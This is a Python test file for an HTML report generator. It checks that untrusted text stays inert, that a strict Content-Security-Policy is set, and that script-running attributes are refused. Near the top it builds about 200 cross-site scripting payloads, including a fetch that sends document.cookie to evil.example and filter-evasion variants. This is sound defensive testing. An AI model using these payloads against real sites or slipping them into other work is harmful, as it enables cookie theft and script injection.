"""The report: one page that needs nothing, runs nothing, and shows everything as text."""

from __future__ import annotations

import html
import json
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

from locution.reporting.markup import Html, clean, join, tag, text
from locution.reporting.report import POLICY, render, write_report
from locution.reporting.results import (
    Confusion,
    Cost,
    Hearing,
    MethodUsed,
    Metric,
    RunResults,
    Table,
    Utterance,
    WrongAnswer,
)
from locution.reporting.sections import tables

# two hundred texts that try to become more than text
CALLS = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "location='https://evil.example'",
    "eval(name)",
)
SHAPES = (
    "<script>{}</script>",
    "<ScRiPt src=//evil.example/x.js>{}</sCrIpT>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror={}>",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin={} attributeName="x">',
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</text></svg><script>{}</script>",
    "</td></tr></table><script>{}</script>",
    "</code></pre><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<a href=javascript:{}>click</a>",
    '<a href="java\tscript:{}">click</a>',
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>go</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<video><source onerror={}></video>",
    "<math><mtext></mtext><script>{}</script></math>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<style>@import '//evil.example/x.css';</style>{}",
    "<link rel=stylesheet href=//evil.example/x.css>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/>{}",
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    "` onmouseover={} x=`",
    "x style=background:url(//evil.example) {}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "\x1b[2J<script>{}</script>\x07",
    "\ud800<script>{}</script>",
    "\u202e<script>{}</script>",
    "{{{{ {} }}}} ${{{}}} {{% {} %}} <%= {} %>",
    "../../../../etc/passwd\n<script>{}</script>",
    "| a | b |\n|---|---|\n| <script>{}</script> |",
    "[click](javascript:{}) ![x](//evil.example/x.png) `</code>`",
)
PAYLOADS = [shape.replace("{}", call).replace("{{", "{").replace("}}", "}") for shape in SHAPES for call in CALLS]

VOID = {"meta", "img", "br", "hr"}


class Page(HTMLParser):
    """What a browser would find: the elements, their attributes, the text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words: list[str] = []
        self.open: list[str] = []
        self.feed(source)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attributes}))
        assert len({name for name, _ in attributes}) == len(attributes)
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)

    def named(self, name: str) -> list[dict[str, str]]:
        return [attributes for tag, attributes in self.tags if tag == name]


def full(word: str) -> RunResults:
    """A run with everything a report can show, one word in every place that comes from outside."""
    heard = Utterance(f"{word}.wav", f"a {word} b", f"a {word}x c", encoder=f"{word} e", seconds=1.0)
    return RunResults(
        title=word,
        summary=word,
        metrics=[
            Metric("wer", 0.1, 0.05, 0.2, label=word, group=word, better="lower", note=word),
            Metric("encoder_wer", 0.2, label=word, group=word),
            Metric(word, 0.5),
        ],
        warnings=[word],
        notes=[word],
        limits=[word],
        cost=Cost(10.0, 1.0, 1e9, 100.0, word, 10, 1, 10, 90, word, {word: word}),
        methods=[MethodUsed(word, word, {word: word})],
        data={word: word},
        recipe={word: {word: [word, {word: word}]}, "task": word},
        environment={word: word},
        confusion=Confusion([word, "b"], [[3, 1], [0, 4]]),
        wrong=[WrongAnswer(np.eye(3), word, word, 0.5, word)],
        utterances=[heard, Utterance("ok", f"{word}", f"{word}")],
        hearing=[Hearing(heard, np.zeros((8, 10)), 1.0)],
        tables=[Table(word, [word, "n"], [[word, 1], [word, 2.5]], word)],
    )


def records(folder: Path, word: str = "bias") -> None:
    lines = []
    for step in range(1, 31):
        values = {
            "gradient_norm": 1.0,
            f"gradient_norm/{word}": 0.5,
            "gradient_norm/last": 0.25,
            f"{word} measure": 1.0,
        }
        line = {
            "kind": "step",
            "step": step,
            "epoch": 0,
            "loss": 2.0 / step,
            "learning_rate": 0.1,
            "seconds": 1.0,
        }
        lines.append(json.dumps({**line, "examples": 32, **values}))
        if step % 10 == 0:
            held = {
                "kind": "epoch",
                "step": step,
                "epoch": step // 10,
                "loss": 1.0,
                "development_loss": 1 / step + step / 400,
            }
            lines.append(json.dumps(held))
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "metrics.jsonl").write_text("\n".join(lines) + "\n")


@pytest.fixture(scope="module")
def shape(tmp_path_factory: pytest.TempPathFactory) -> list[tuple[str, frozenset[str]]]:
    """The elements of an innocent report and the names of their attributes."""
    folder = tmp_path_factory.mktemp("innocent")
    records(folder)
    page = Page(write_report(folder, full("word")).read_text(encoding="utf-8"))
    return [(name, frozenset(attributes)) for name, attributes in page.tags]


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), 20))
def test_no_payload_becomes_more_than_text(start: int, shape: list[tuple[str, frozenset[str]]], tmp_path: Path) -> None:
    for index, payload in enumerate(PAYLOADS[start : start + 20]):
        folder = tmp_path / str(index)
        records(folder, payload)
        source = render(folder, full(payload)).encode("utf-8", "replace").decode("utf-8")
        page = Page(source)
        allowed = set(shape)
        for name, attributes in page.tags:
            assert (name, frozenset(attributes)) in allowed, f"{payload!r} made a <{name}>"
            assert not any(key.startswith("on") for key in attributes)
            for key in ("href", "src"):
                assert attributes.get(key, "#").startswith(("#", "data:image/png;base64,"))
        shown = " ".join(clean(payload).split())
        assert shown in " ".join(page.text.split())  # and it is shown, not swallowed
        assert not set(source) & {chr(code) for code in (*range(9), 11, 12, *range(14, 32), 127)}


def test_the_page_needs_nothing_and_may_nothing(tmp_path: Path) -> None:
    records(tmp_path)
    source = write_report(tmp_path, full("word")).read_text(encoding="utf-8")
    page = Page(source)
    [policy] = [meta["content"] for meta in page.named("meta") if meta.get("http-equiv") == "Content-Security-Policy"]
    assert policy == POLICY
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:")
    assert not {"script", "link", "iframe", "object", "embed", "base", "form"} & {name for name, _ in page.tags}
    assert "http://" not in source
    assert "https://" not in source
    assert "@import" not in source
    assert "url(" not in source
    assert source.startswith('<!doctype html>\n<html lang="en"><head><meta charset="utf-8">')


def test_every_picture_is_also_said_in_words(tmp_path: Path) -> None:
    records(tmp_path)
    page = Page(write_report(tmp_path, full("word")).read_text(encoding="utf-8"))
    pictures = [svg for svg in page.named("svg") if svg.get("aria-hidden") != "true"]
    assert len(pictures) >= 6
    assert all(svg["role"] == "img" and len(svg["aria-label"]) > 10 for svg in pictures)
    assert all(image["alt"] for image in page.named("img"))


def test_every_link_leads_somewhere(tmp_path: Path) -> None:
    records(tmp_path)
    page = Page(write_report(tmp_path, full("word")).read_text(encoding="utf-8"))
    anchors = {attributes["id"] for attributes in page.named("section")}
    links = {link["href"].removeprefix("#") for link in page.named("a")}
    assert links == anchors
    expected = "figures hearing utterances confusion mistakes tables learning gradients cost methods data limits"
    expected = "figures hearing utterances confusion mistakes tables learning gradients cost methods data limits"
    assert anchors == {*expected.split(), "recipe", "environment"}


def test_what_was_not_measured_is_left_out(tmp_path: Path) -> None:
    page = Page(write_report(tmp_path / "empty", RunResults("nothing")).read_text(encoding="utf-8"))
    assert page.named("section") == []
    assert "nothing" in page.text


def test_the_figures_are_those_of_the_run(tmp_path: Path) -> None:
    records(tmp_path)
    page = Page(write_report(tmp_path, full("word")).read_text(encoding="utf-8"))
    words = " ".join(page.text.split())
    assert "0.100" in words
    assert "95 % interval [0.050, 0.200]" in words
    assert "10 of 100 parameters are trained (10 %), 90 stay frozen" in words
    assert "1 of 2 utterances have no error" in words
    assert "held-out loss is lowest at step 20: 0.100" in words  # 1/20 + 20/400


@pytest.mark.parametrize(
    "damage", ["", "not json\n", '{"kind": "step"}\n', '{"kind": "step", "step": 1, "loss": null}\n']
)
def test_damaged_metrics_do_not_stop_the_report(tmp_path: Path, damage: str) -> None:
    (tmp_path / "metrics.jsonl").write_text(damage)
    assert write_report(tmp_path, RunResults("digits")).exists()


@pytest.mark.parametrize("value", [float("nan"), float("inf"), -float("inf"), 0.0, 1e-30, 1e30, -5.0])
def test_odd_numbers_do_not_stop_the_report(tmp_path: Path, value: float) -> None:
    lines = [json.dumps({"kind": "step", "step": step, "loss": value, "gradient_norm/a": value}) for step in (1, 2, 3)]
    (tmp_path / "metrics.jsonl").write_text("\n".join(lines) + "\n")
    results = RunResults("odd", metrics=[Metric("m", value, value, value, group="g"), Metric("n", 1.0, group="g")])
    results.wrong = [WrongAnswer(np.full((2, 2), value), "a", "b", None)]
    results.hearing = [Hearing(Utterance("u", "", ""), np.full((4, 5), value), 0.5)]
    results.utterances = [Utterance("u", "", ""), Utterance("v", "", "made up"), Utterance("w", "lost", "")]
    Page(write_report(tmp_path, results).read_text(encoding="utf-8"))


def test_a_long_run_makes_a_page_of_ordinary_size(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    with (tmp_path / "metrics.jsonl").open("w") as file:
        for step in range(6_000):
            values = {f"gradient_norm/layers.{n}.weight": float(v) for n, v in enumerate(rng.random(8))}
            file.write(json.dumps({"kind": "step", "step": step, "loss": float(rng.random()), **values}) + "\n")
    assert write_report(tmp_path, RunResults("long")).stat().st_size < 200_000


def test_warnings_come_before_the_figures_and_are_found_in_the_gradients(tmp_path: Path) -> None:
    lines = [
        {"kind": "step", "step": s, "loss": 1.0, "gradient_norm/first": 1e-9, "gradient_norm/last": 150.0 * s}
        for s in (1, 2)
    ]
    (tmp_path / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    words = Page(write_report(tmp_path, RunResults("x", metrics=[Metric("m", 1.0)])).read_text(encoding="utf-8")).text
    assert words.index("The gradient of last reached 300 at step 2") < words.index(
        "Figures", words.index("The gradient")
    )
    assert "The gradient of first is 1e-09 at the end" in words


def test_a_tag_escapes_children_and_attributes_and_refuses_what_runs() -> None:
    assert tag("p", "<&\"'", title='"<') == '<p title="&quot;&lt;">&lt;&amp;&quot;&#x27;</p>'
    assert html.unescape(text("a\x00b<")) == "a\ufffdb<"
    assert join("<", Html("<b>")) == "&lt;<b>"
    for attributes in (
        {"onclick": "x"},
        {"href": "javascript:x"},
        {"src": "//x"},
        {"style": "color:red"},
        {"ONLOAD": "x"},
    ):
        with pytest.raises(ValueError, match="that a report may have"):
            tag("p", **attributes)


def test_figures_in_a_table_stand_to_the_right_also_where_they_are_text_and_long_texts_have_the_page() -> None:
    short = Table("short", ("kind", "share"), [("5", "0.673"), ("9", "1.000")])
    long = Table("long", ("question", "answer"), [("why", "because " * 20)])
    shown = tables([short, long])
    assert shown is not None
    page = shown.body
    assert page.count('<td class="number">0.673</td>') == 1
    assert '<td class="number">5</td>' not in page, "a class is no figure"
    assert page.count('<figure class="wide">') == 1
